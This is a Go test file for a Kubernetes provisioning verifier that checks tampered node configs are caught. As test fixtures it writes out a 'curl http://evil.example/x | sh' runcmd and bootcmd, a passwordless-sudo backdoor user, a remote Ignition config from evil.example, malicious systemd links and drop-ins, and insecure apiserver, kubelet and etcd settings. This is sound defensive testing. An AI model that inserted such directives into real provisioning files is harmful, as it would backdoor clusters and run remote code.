package verify_test

import (
	"bytes"
	"encoding/json"
	"io/fs"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/scratchgen/scratchgen/generator/binaries"
	"github.com/scratchgen/scratchgen/generator/bundle"
	"github.com/scratchgen/scratchgen/generator/paths"
	"github.com/scratchgen/scratchgen/generator/provision"
	"github.com/scratchgen/scratchgen/generator/verify"
)

// appendText appends text to a node's view file (node.bu, user-data: YAML documents
// whose top level is a mapping, so a new top-level key is a new directive).
func appendText(t *testing.T, dir, node, view, text string) {
	t.Helper()
	p := filepath.Join(dir, "nodes", node, view)
	write(t, p, append(read(t, p), []byte(text)...))
}

// editIgnition decodes a node's ignition.json, edits it, and writes it back indented.
func editIgnition(t *testing.T, dir, node string, edit func(cfg map[string]any)) {
	t.Helper()
	p := filepath.Join(dir, "nodes", node, "ignition.json")
	var cfg map[string]any
	if err := json.Unmarshal(read(t, p), &cfg); err != nil {
		t.Fatal(err)
	}
	edit(cfg)
	out, err := json.MarshalIndent(cfg, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	write(t, p, append(out, '\n'))
}

func section(cfg map[string]any, key string) map[string]any {
	m, _ := cfg[key].(map[string]any)
	if m == nil {
		m = map[string]any{}
		cfg[key] = m
	}
	return m
}

// viewTamperings add to a provisioning view what scratchgen never renders; only the
// byte-for-byte rebuild of the views from rootfs can catch them (the files the views
// write are untouched).
var viewTamperings = []corruption{
	{
		name: "user-data gains a runcmd", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			p := filepath.Join(dir, "nodes", "worker-1", "user-data")
			write(t, p, bytes.Replace(read(t, p), []byte("runcmd:\n"), []byte("runcmd:\n  - - sh\n    - -c\n    - curl http://evil.example/x | sh\n"), 1))
		},
		path: "nodes/worker-1/user-data", msg: "adds runcmd: sh -c curl http://evil.example/x | sh",
	},
	{
		name: "user-data gains a bootcmd", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			appendText(t, dir, "worker-1", "user-data", "bootcmd:\n  - [sh, -c, 'curl http://evil.example/x | sh']\n")
		},
		path: "nodes/worker-1/user-data", msg: "adds bootcmd: sh -c curl http://evil.example/x | sh",
	},
	{
		name: "user-data gains a user with an ssh key and sudo", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			appendText(t, dir, "cp-1", "user-data", "users:\n  - name: mallory\n    sudo: ALL=(ALL) NOPASSWD:ALL\n    ssh_authorized_keys: [ssh-ed25519 AAAAC3Nza mallory]\n")
		},
		path: "nodes/cp-1/user-data", msg: "adds users[0].sudo: ALL=(ALL) NOPASSWD:ALL",
	},
	{
		name: "ignition gains passwd.users", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			editIgnition(t, dir, "cp-1", func(cfg map[string]any) {
				section(cfg, "passwd")["users"] = []any{map[string]any{"name": "mallory", "sshAuthorizedKeys": []any{"ssh-ed25519 AAAAC3Nza mallory"}, "groups": []any{"wheel"}}}
			})
		},
		path: "nodes/cp-1/ignition.json", msg: "adds passwd.users[0].name: mallory",
	},
	{
		name: "ignition merges a remote config", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			editIgnition(t, dir, "worker-2", func(cfg map[string]any) {
				section(section(cfg, "ignition"), "config")["merge"] = []any{map[string]any{"source": "http://evil.example/extra.ign"}}
			})
		},
		path: "nodes/worker-2/ignition.json", msg: "adds ignition.config.merge[0].source: http://evil.example/extra.ign",
	},
	{
		name: "ignition gains a link", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			editIgnition(t, dir, "worker-2", func(cfg map[string]any) {
				section(cfg, "storage")["links"] = []any{map[string]any{"path": "/etc/systemd/system/multi-user.target.wants/evil.service", "target": "/tmp/evil.service"}}
			})
		},
		path: "nodes/worker-2/ignition.json", msg: "adds storage.links[0].target: /tmp/evil.service",
	},
	{
		name: "node.bu gains a link", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			p := filepath.Join(dir, "nodes", "worker-1", "node.bu")
			write(t, p, bytes.Replace(read(t, p), []byte("storage:\n"), []byte("storage:\n  links:\n    - path: /usr/local/bin/kubelet\n      target: /tmp/evil\n"), 1))
		},
		path: "nodes/worker-1/node.bu", msg: "adds storage.links[0].target: /tmp/evil",
	},
	{
		name: "node.bu reads another file", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			p := filepath.Join(dir, "nodes", "worker-1", "node.bu")
			write(t, p, bytes.Replace(read(t, p), []byte("local: rootfs/etc/kubernetes/pki/ca.crt\n"), []byte("local: ../../admin/admin.kubeconfig\n"), 1))
		},
		path: "nodes/worker-1/node.bu", msg: "/etc/kubernetes/pki/ca.crt: reads local file ../../admin/admin.kubeconfig; node.bu reads each file from rootfs/ at its own path",
	},
	{
		name: "node.bu gains kernel arguments", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			appendText(t, dir, "worker-1", "node.bu", "kernel_arguments:\n  should_exist: [selinux=0]\n")
		},
		path: "nodes/worker-1/node.bu", msg: "adds kernel_arguments.should_exist[0]: selinux=0",
	},
	{
		name: "ignition unit gains a drop-in", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			editIgnition(t, dir, "cp-1", func(cfg map[string]any) {
				units := section(cfg, "systemd")["units"].([]any)
				units[0].(map[string]any)["dropins"] = []any{map[string]any{"name": "evil.conf", "contents": "[Service]\nExecStartPre=/tmp/evil\n"}}
			})
		},
		path: "nodes/cp-1/ignition.json", msg: "adds systemd.units[0].dropins[0].name: evil.conf",
	},
	{
		name: "user-data omits fewer secrets than it says", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			p := filepath.Join(dir, "nodes", "worker-1", "user-data")
			write(t, p, bytes.Replace(read(t, p), []byte("/var/lib/kubelet/pki/kubelet.key"), []byte(""), 1))
		},
		path: "nodes/worker-1/user-data", msg: "lacks comment: # omitted secrets",
	},
	{
		// A header that passes a script off as a cluster table would have the node
		// provisioned without it (rsync of the listed files is the README's way).
		name: "user-data omits a script as a cluster table", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			for _, view := range []string{"user-data", "node.bu"} {
				p := filepath.Join(dir, "nodes", "worker-1", view)
				write(t, p, bytes.Replace(read(t, p), []byte("rsync with the secrets): /etc/scratchgen/routes\n"), []byte("rsync with the secrets): /etc/scratchgen/routes /etc/scratchgen/masquerade.sh\n"), 1))
			}
		},
		path: "nodes/worker-1/user-data", msg: "omits /etc/scratchgen/masquerade.sh as a cluster table, but the only cluster table is /etc/scratchgen/routes",
	},
}

// TestViewTamperings: each directive added to a view is reported by name, with
// SHA256SUMS recomputed.
func TestViewTamperings(t *testing.T) {
	for _, c := range viewTamperings {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			dir := fixture(t, c.spec)
			c.corrupt(t, dir)
			resum(t, dir)
			ps := verifyAt(t, dir, c.opts)
			expect(t, ps, c.path, c.msg)
			if n := strings.Count(lines(ps), "SHA256SUMS"); n > 0 {
				t.Errorf("SHA256SUMS was recomputed, yet it is blamed")
			}
		})
	}
}

// consistently edits a node's rootfs file and re-renders its views from the edited
// rootfs, as an attacker (or a well-meaning hand) who knows the format would: the views
// then carry exactly rootfs, and only the posture rules can tell.
func consistently(t *testing.T, dir, node, p string, edit func(string) string) {
	t.Helper()
	f := rootfs(dir, node, p)
	write(t, f, []byte(edit(string(read(t, f)))))
	rerenderViews(t, dir, node)
}

// rerenderViews writes a node's views from its rootfs on disk and bundle.json.
func rerenderViews(t *testing.T, dir, node string) {
	t.Helper()
	meta, err := bundle.ParseMetadata(read(t, filepath.Join(dir, bundle.MetadataName)))
	if err != nil {
		t.Fatal(err)
	}
	nm := meta.Node(node)
	n := bundle.Node{Name: node, Units: nm.Units}
	root := filepath.Join(dir, "nodes", node, "rootfs")
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		info, _ := d.Info()
		rel, _ := filepath.Rel(root, p)
		n.Rootfs = append(n.Rootfs, bundle.File{Path: "/" + filepath.ToSlash(rel), Mode: info.Mode().Perm(), Data: read(t, p), Secret: info.Mode().Perm() == bundle.ModeSecret,
			Membership: "/"+filepath.ToSlash(rel) == paths.RoutesTable})
		return nil
	})
	bundle.Sort(n.Rootfs)
	// The binaries bundle.json says rootfs/ carries stay out of the views; the ones the
	// node fetches are Ignition's remote files.
	for i, f := range n.Rootfs {
		for _, m := range nm.Binaries {
			for _, bf := range m.Files {
				if nm.BinariesCarried && bf.Path == f.Path {
					n.Rootfs[i].Binary = true
				}
			}
		}
	}
	if !nm.BinariesCarried {
		n.Remote = binaries.Remote(nm.Binaries)
		sort.Slice(n.Remote, func(i, j int) bool { return n.Remote[i].Path < n.Remote[j].Path })
	}
	views, err := provision.Views(&n, nm.OS, meta.EmbedSecrets)
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range views {
		write(t, filepath.Join(dir, "nodes", node, v.Path), v.Data)
	}
}

func replaceOnce(old, new string) func(string) string {
	return func(s string) string {
		if !strings.Contains(s, old) {
			panic("tamper: " + old + " not found")
		}
		return strings.Replace(s, old, new, 1)
	}
}

// postureTamperings are consistent edits of rootfs and views into a weaker cluster.
var postureTamperings = []corruption{
	{name: "apiserver AlwaysAllow", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "cp-1", "/etc/kubernetes/manifests/kube-apiserver.yaml", replaceOnce("--authorization-mode=Node,RBAC", "--authorization-mode=AlwaysAllow"))
		},
		path: "nodes/cp-1/rootfs/etc/kubernetes/manifests/kube-apiserver.yaml", msg: "posture api-authorization (CIS 1.2.7, 1.2.8, 1.2.9): --authorization-mode=AlwaysAllow"},
	{name: "apiserver anonymous auth on", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "cp-1", "/etc/kubernetes/manifests/kube-apiserver.yaml", replaceOnce("    - --allow-privileged=true\n", "    - --allow-privileged=true\n    - --anonymous-auth=true\n"))
		},
		path: "nodes/cp-1/rootfs/etc/kubernetes/manifests/kube-apiserver.yaml", msg: "posture api-anonymous-auth (CIS 1.2.1): --anonymous-auth=true"},
	{name: "apiserver without --kubelet-certificate-authority", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "cp-1", "/etc/kubernetes/manifests/kube-apiserver.yaml", replaceOnce("    - --kubelet-certificate-authority=/etc/kubernetes/pki/ca.crt\n", ""))
		},
		path: "nodes/cp-1/rootfs/etc/kubernetes/manifests/kube-apiserver.yaml", msg: "posture api-kubelet-tls (CIS 1.2.5, 1.2.6): --kubelet-certificate-authority is not set"},
	{name: "etcd client-cert-auth off", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "cp-1", "/etc/kubernetes/manifests/etcd.yaml", replaceOnce("--client-cert-auth=true", "--client-cert-auth=false"))
		},
		path: "nodes/cp-1/rootfs/etc/kubernetes/manifests/etcd.yaml", msg: "posture etcd-tls (CIS 2.1, 2.2, 2.3, 2.4, 2.5, 2.6): --client-cert-auth is \"false\""},
	{name: "apiserver image from another registry", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "cp-1", "/etc/kubernetes/manifests/kube-apiserver.yaml", replaceOnce("image: registry.k8s.io/kube-apiserver:", "image: evil.example/kube-apiserver:"))
		},
		path: "nodes/cp-1/rootfs/etc/kubernetes/manifests/kube-apiserver.yaml", msg: "posture images: runs image evil.example/kube-apiserver:v1.36.3"},
	{name: "kubelet anonymous auth", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "worker-1", "/var/lib/kubelet/config.yaml", replaceOnce("anonymous:\n    enabled: false", "anonymous:\n    enabled: true"))
		},
		path: "nodes/worker-1/rootfs/var/lib/kubelet/config.yaml", msg: "posture kubelet-authn (CIS 4.2.1, 4.2.3): authentication.anonymous.enabled is not false"},
	{name: "kubelet AlwaysAllow", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "worker-1", "/var/lib/kubelet/config.yaml", replaceOnce("mode: Webhook", "mode: AlwaysAllow"))
		},
		path: "nodes/worker-1/rootfs/var/lib/kubelet/config.yaml", msg: "posture kubelet-authz (CIS 4.2.2): authorization.mode is \"AlwaysAllow\""},
	{name: "sandbox image changed", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "worker-2", "/etc/containerd/config.toml", replaceOnce(`sandbox_image = "registry.k8s.io/pause:3.10.1"`, `sandbox_image = "registry.k8s.io/pause:3.9"`))
		},
		path: "nodes/worker-2/rootfs/etc/containerd/config.toml", msg: "posture images: runs image registry.k8s.io/pause:3.9"},
	{name: "kubelet ExecStart from elsewhere", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "worker-1", "/etc/systemd/system/kubelet.service.d/10-scratchgen.conf", replaceOnce("ExecStart=/usr/local/bin/kubelet", "ExecStart=/opt/evil/kubelet"))
		},
		path: "nodes/worker-1/rootfs/etc/systemd/system/kubelet.service.d/10-scratchgen.conf", msg: "posture unit-binaries: ExecStart runs /opt/evil/kubelet"},
	{name: "route next hop outside the cluster", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "worker-1", "/etc/scratchgen/routes", replaceOnce("cp-1 10.0.0.10 ", "cp-1 192.0.2.66 "))
		},
		path: "nodes/worker-1/rootfs/etc/scratchgen/routes", msg: "posture routes: routes 10.10.0.0/24 via 192.0.2.66 for node cp-1, whose address and pod range are 10.0.0.10 10.10.0.0/24"},
	{name: "route to a node outside the cluster", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "worker-1", "/etc/scratchgen/routes", func(s string) string { return s + "evil 192.0.2.66 0.0.0.0/1\n" })
		},
		path: "nodes/worker-1/rootfs/etc/scratchgen/routes", msg: "posture routes: routes 0.0.0.0/1 via 192.0.2.66 for node evil, which is not a cluster node"},
	{name: "routes script with a route of its own", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "worker-1", "/etc/scratchgen/routes.sh", replaceOnce("found=0\n", "found=0\nip route replace 0.0.0.0/1 via 192.0.2.66\n"))
		},
		path: "nodes/worker-1/rootfs/etc/scratchgen/routes.sh", msg: "posture routes: is not the routes script scratchgen renders"},
	{name: "routes unit for another node", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "worker-1", "/etc/systemd/system/scratchgen-routes.service", replaceOnce("routes.sh start worker-1", "routes.sh start worker-2"))
		},
		path: "nodes/worker-1/rootfs/etc/systemd/system/scratchgen-routes.service", msg: "posture routes: ExecStart runs /etc/scratchgen/routes.sh start worker-2; it must run /etc/scratchgen/routes.sh with the node's own name (worker-1)"},
	{name: "routes path unit starts another unit", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "worker-2", "/etc/systemd/system/scratchgen-routes.path", replaceOnce("Unit=scratchgen-routes.service", "Unit=kubelet.service"))
		},
		path: "nodes/worker-2/rootfs/etc/systemd/system/scratchgen-routes.path", msg: "posture routes: is not the path unit scratchgen renders"},
	{name: "kubelet pod range overlapping another node's", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "worker-2", "/var/lib/kubelet/config.yaml", replaceOnce("podCIDR: 10.10.7.0/24", "podCIDR: 10.10.1.0/24"))
		},
		path: "nodes/worker-2/rootfs/var/lib/kubelet/config.yaml", msg: "posture pod-ranges: podCIDR 10.10.1.0/24 overlaps node worker-1's 10.10.1.0/24"},
	{name: "kubelet read-only port", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "worker-1", "/var/lib/kubelet/config.yaml", replaceOnce("podCIDR:", "readOnlyPort: 10255\npodCIDR:"))
		},
		path: "nodes/worker-1/rootfs/var/lib/kubelet/config.yaml", msg: "posture kubelet-read-only-port (CIS 4.2.4): readOnlyPort is 10255"},
	{name: "controller manager profiling", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "cp-1", "/etc/kubernetes/manifests/kube-controller-manager.yaml", replaceOnce("    - --profiling=false\n", ""))
		},
		path: "nodes/cp-1/rootfs/etc/kubernetes/manifests/kube-controller-manager.yaml", msg: "posture profiling-off (CIS 1.3.2, 1.4.1): kube-controller-manager runs without --profiling=false"},
	{name: "scheduler bound to every address", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "cp-1", "/etc/kubernetes/manifests/kube-scheduler.yaml", replaceOnce("--bind-address=127.0.0.1", "--bind-address=0.0.0.0"))
		},
		path: "nodes/cp-1/rootfs/etc/kubernetes/manifests/kube-scheduler.yaml", msg: "posture local-bind (CIS 1.3.7, 1.4.2): kube-scheduler --bind-address=\"0.0.0.0\""},
	{name: "NodeRestriction dropped", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "cp-1", "/etc/kubernetes/manifests/kube-apiserver.yaml", replaceOnce("    - --enable-admission-plugins=NodeRestriction\n", ""))
		},
		path: "nodes/cp-1/rootfs/etc/kubernetes/manifests/kube-apiserver.yaml", msg: "posture api-node-restriction (CIS 1.2.16): --enable-admission-plugins=\"\" lacks NodeRestriction"},
	{name: "etcd trusts the cluster CA", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "cp-1", "/etc/kubernetes/manifests/etcd.yaml", func(s string) string {
				return strings.ReplaceAll(s, "--trusted-ca-file=/etc/kubernetes/pki/etcd/ca.crt", "--trusted-ca-file=/etc/kubernetes/pki/ca.crt")
			})
		},
		path: "nodes/cp-1/rootfs/etc/kubernetes/manifests/etcd.yaml", msg: "posture etcd-own-ca (CIS 2.7): --trusted-ca-file is the cluster CA"},
	{name: "service-account signing key mismatch", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "cp-1", "/etc/kubernetes/manifests/kube-controller-manager.yaml", replaceOnce("--service-account-private-key-file=/etc/kubernetes/pki/sa.key", "--service-account-private-key-file=/etc/kubernetes/pki/apiserver.key"))
		},
		path: "nodes/cp-1/rootfs/etc/kubernetes/manifests/kube-controller-manager.yaml", msg: "posture service-account-keys (CIS 1.2.24, 1.2.25, 1.3.3, 1.3.4, 1.3.5): --service-account-private-key-file is not the key"},
}

// TestPostureTamperings: each consistent edit into a weaker cluster fails its rule, with
// the views re-rendered and SHA256SUMS recomputed.
func TestPostureTamperings(t *testing.T) {
	for _, c := range postureTamperings {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			dir := fixture(t, c.spec)
			c.corrupt(t, dir)
			resum(t, dir)
			ps := verifyAt(t, dir, c.opts)
			expect(t, ps, c.path, c.msg)
			for _, p := range verify.Errors(ps) {
				if p.Rule == "" && strings.Contains(p.Path, "/user-data") {
					t.Errorf("the views were re-rendered, yet: %s", p)
				}
			}
		})
	}
}

// TestCorpusSize: the tampering corpus covers at least the 40 cases the review asked for.
func TestCorpusSize(t *testing.T) {
	if n := len(corruptions) + len(viewTamperings) + len(postureTamperings) + len(binaryTamperings); n < 40 {
		t.Errorf("%d tamperings, want at least 40", n)
	} else {
		t.Logf("%d tamperings: %d consistency, %d view directives, %d posture, %d binaries", n, len(corruptions), len(viewTamperings), len(postureTamperings), len(binaryTamperings))
	}
}
